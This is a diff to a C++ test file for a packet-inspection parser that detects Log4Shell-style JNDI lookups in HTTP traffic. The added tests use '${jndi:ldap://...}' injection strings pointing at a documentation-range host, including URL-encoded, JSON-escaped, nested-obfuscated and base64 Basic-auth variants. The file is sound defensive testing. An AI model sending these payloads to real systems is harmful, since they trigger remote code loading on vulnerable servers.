@@ -1,4 +1,6 @@
 #include <string>
+#include <string_view>
+#include <vector>
 
 #include <doctest/doctest.h>
 
@@ -12,8 +14,28 @@ namespace {
 
 using dpi::AppId;
 using dpi::Transport;
-using dpi::http::has_jndi_credentials;
-using dpi::http::has_jndi_lookup;
+using dpi::http::find_jndi_credentials;
+using dpi::http::find_jndi_lookups;
+using dpi::http::JndiLookups;
+
+JndiLookups lookups_of(std::string_view text) {
+  JndiLookups found;
+  find_jndi_lookups(text, &found);
+  return found;
+}
+
+bool has_jndi_lookup(std::string_view text) { return !lookups_of(text).empty(); }
+
+bool has_jndi_credentials(std::string_view value) {
+  JndiLookups found;
+  find_jndi_credentials(value, &found);
+  return !found.empty();
+}
+
+std::vector<uint32_t> keys_of(std::string_view text) {
+  const JndiLookups found = lookups_of(text);
+  return {found.begin(), found.end()};
+}
 
 size_t lookups_in(const std::string& request) {
   ParserRun run(AppId::kHttp, Transport::kTcp, 40000, 80);
@@ -76,6 +98,29 @@ TEST_CASE("http lookup: depth, length and number are bounded") {
   CHECK_FALSE(has_jndi_lookup(many));
 }
 
+TEST_CASE("http lookup: what is asked for has one number, however it is spelt and escaped") {
+  const std::vector<uint32_t> key = keys_of("${jndi:ldap://203.0.113.7/a}");
+  REQUIRE(key.size() == 1);
+  CHECK(key[0] != 0);
+  for (const char* text : {
+           "{\"ua\":\"${jndi:ldap:\\/\\/203.0.113.7\\/a}\",\"n\":1}",
+           "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.7%2Fa%7D&x=1",
+           "${${lower:J}${::-n}di:ldap://203.0.113.7/a}",
+           "${jndi:ldap://203.0.113.7/a} ${JNDI:LDAP://203.0.113.7/a}",
+           "${date:${jndi:ldap://203.0.113.7/a}}",
+       }) {
+    INFO(text);
+    CHECK(keys_of(text) == key);
+  }
+  CHECK(keys_of("${jndi:ldap://203.0.113.7/b}") != key);
+  CHECK(keys_of("${jndi:ldap://203.0.113.7/b} ${jndi:ldap://203.0.113.7/a}").size() == 2);
+  CHECK(keys_of("${jndi:ldap://203.0.113.7/a").size() == 1);
+  CHECK(keys_of("${jndi:ldap://203.0.113.7/a")[0] == 0);
+  std::string many;
+  for (int i = 0; i < 20; ++i) many += "${jndi:" + std::to_string(i) + "}";
+  CHECK(keys_of(many).size() == JndiLookups::kMost);
+}
+
 TEST_CASE("http lookup: user and password") {
   CHECK(has_jndi_credentials("Basic dToke2puZGk6bGRhcDovLzIwMy4wLjExMy43fQ=="));
   CHECK_FALSE(has_jndi_credentials("Basic dXNlcjpwYXNzd29yZA=="));
@@ -95,7 +140,7 @@ TEST_CASE("http lookup: a request is told of, once for its head and for each pie
 TEST_CASE("http lookup: survives damage") {
   const std::string sample = "${j${env:a:-}n%24%7B::-d%7di:${lower:x}}";
   mangle(std::vector<uint8_t>(sample.begin(), sample.end()),
-         [](Bytes bytes) { (void)has_jndi_lookup(as_text(bytes)); });
+         [](Bytes bytes) { (void)keys_of(as_text(bytes)); });
 }
 
 }  // namespace thymus::test
